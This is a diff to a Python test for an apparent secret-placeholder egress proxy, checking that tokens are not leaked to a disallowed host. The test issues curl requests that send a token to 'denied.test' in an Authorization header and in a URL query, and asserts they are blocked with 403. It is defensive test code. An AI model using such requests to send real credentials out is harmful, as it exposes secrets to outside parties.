@@ -92,7 +92,8 @@ def test_secrets_are_placeholders_swapped_only_for_their_hosts(tmp_path, outboun
         leak = curl(bottle, "-w", "\\n%{http_code}", "-H", f"Authorization: Bearer {token.decode()}",
                     "https://denied.test/")
         body, code = leak.stdout.rsplit(b"\n", 1)
-        assert code == b"403" and b"TOKEN" in body and b"rule secret-host" in body and real.encode() not in body
+        # Content inspection finds the placeholder before the swap would: refused, naming the secret, never its value.
+        assert code == b"403" and b"TOKEN" in body and b"rule secret-value" in body and real.encode() not in body
         in_url = curl(bottle, "-w", "\\n%{http_code}", f"https://denied.test/?q={token.decode()}")
         assert in_url.stdout.rsplit(b"\n", 1)[1] == b"403"
     first, form = origin.requests()
